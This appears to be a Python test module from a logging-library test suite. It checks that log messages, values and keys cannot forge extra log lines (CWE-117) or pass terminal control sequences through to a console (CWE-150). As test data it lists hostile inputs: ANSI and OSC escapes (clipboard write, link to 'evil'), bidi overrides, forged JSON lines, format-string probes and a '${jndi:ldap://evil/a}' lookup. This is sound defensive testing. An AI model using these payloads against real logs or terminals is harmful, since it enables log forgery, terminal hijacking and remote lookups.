"""Text from outside stays text: one line, nothing for the terminal, nothing expanded."""

from __future__ import annotations

import logging
import re

from laboratory import Broken, Fault


FORGED = "2026-01-01T00:00:00Z error FORGED"
LINE_ENDS = "\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"
HOSTILE = (
    *("\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]52;c;cm0=\x07", "\x1b]8;;http://evil\x1b\\"),
    *("\x9b2J", "\x90q\x9c", "good\rEVIL", "abc\b\b\bEVIL", "\x07", "\x00", "\x7f"),
    *("\u202egnp.exe", "\u2066x\u2069", "\u200e", "\x0e"),
)
OWN_COLOURS = re.compile(r"\x1b\[[0-9;]*m")
CONTROLS = re.compile(
    r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069]"  # all but \n
)


class LineEnds(Fault):
    """A line end in a message, value, key or exception begins no second line (CWE-117)."""

    promise = 5

    def act(self, child):
        text = 'x\n{"event":"FORGED","message":"FORGED","level":"critical"}\r\n'
        child.log.info(text)
        child.log.info("value", v=text)
        child.log.info("key", **{text: 1})
        try:
            raise ValueError(text)
        except ValueError:
            child.log.exception("raised")

    def judge(self, seen):
        if "FORGED" in map(str, seen.events):
            raise Broken("forged", "a line of the text's own")
        if len(seen.lines) != 4:
            raise Broken("wrong", f"{len(seen.lines)} lines for 4 records")


class OtherLineEnds(Fault):
    """JSON holds no other line end (U+2028, NEL, VT, FF) and no C0, C1 or DEL as it is."""

    promise = 5
    events = ("others",)

    def act(self, child):
        controls = "\x9b2J\x7f\x00\x1b"
        child.log.info("others", ends=LINE_ENDS, controls=controls, **{"k\u2028\x7f": 1})

    def judge(self, seen):
        if raw := sorted(set(CONTROLS.findall(seen.text))):
            raise Broken("forged", f"as they are: {raw}")


class NothingExpanded(Fault):
    """A message is never expanded: `%s`, `{0.__class__}` and `${jndi:…}` stay what they are."""

    promise = 5
    events = (
        *("100% of %s and %(levelname)s", "{user} {0} {}", "{user.__class__.__init__.__globals__}"),
        *("${jndi:ldap://evil/a}", "${env:HOME}", "$HOME", "%", "<red>markup</red>", "[bold]x[/]"),
    )

    def act(self, child):
        for text in self.events:
            child.attempt(child.log.info, text, user="kim")


class WrongArguments(Fault):
    """A library's call with the wrong `%` arguments keeps its line."""

    needs = ("stdlib",)

    def act(self, child):
        logger = logging.getLogger("library")
        child.attempt(logger.warning, "first %d", "x")
        child.attempt(logger.warning, "second %s %s", "x")
        child.attempt(logger.warning, "third %(name)s", {"other": 1})
        child.attempt(logger.warning, "fourth", "too", "many")

    def judge(self, seen):
        gone = [word for word in ("first", "second", "third", "fourth") if word not in seen.text]
        seen.lost(len(gone), f"gone: {' '.join(gone)}")


class _Console(Fault):
    promise = 5
    console = True


class ConsoleLineEnds(_Console):
    """A line end in a message, value or key begins no line on the console (CWE-117)."""

    def act(self, child):
        for end in LINE_ENDS:
            child.attempt(child.log.info, f"login failed{end}{FORGED}")
            child.attempt(child.log.info, "value", user=f"x{end}{FORGED}")
            child.attempt(lambda end=end: child.log.info("key", **{f"k{end}{FORGED}": 1}))

    def judge(self, seen):
        lines = re.split(f"[{LINE_ENDS}]", OWN_COLOURS.sub("", seen.text))
        if forged := [line for line in lines if line.lstrip().startswith(FORGED)]:
            raise Broken("forged", f"{len(forged)} lines begin with the text")


class ConsoleControls(_Console):
    """No control of a message, value, key or logger name reaches a terminal (CWE-150)."""

    def act(self, child):
        for text in HOSTILE:
            child.attempt(child.log.info, f"message [{text}] end")
            child.attempt(child.log.info, "value", user=f"[{text}]", deep=[{text: text}])
            child.attempt(lambda text=text: child.log.info("key", **{text: 1}))
        try:
            raise ValueError("".join(HOSTILE))
        except ValueError:
            child.attempt(child.log.exception, "raised")

    def judge(self, seen):
        if through := sorted(set(CONTROLS.findall(OWN_COLOURS.sub("", seen.text)))):
            raise Broken("forged", f"reach the terminal: {through}")


class ConsoleColours(_Console):
    """A colour in a value can't pass for the console's own."""

    def act(self, child):
        for escape in ("~", "\x1b"):
            before = child.size()
            child.log.info(f"message {escape}[8mhidden", user=f"{escape}[31;5mALERT{escape}[0m")
            size = child.size()
            with child.path.open("rb") as file:
                file.seek(before)
                child.note("escapes", file.read(size - before).count(b"\x1b"))

    def judge(self, seen):
        if len(set(seen.notes["escapes"])) != 1:
            raise Broken("forged", f"escapes without and with: {seen.notes['escapes']}")
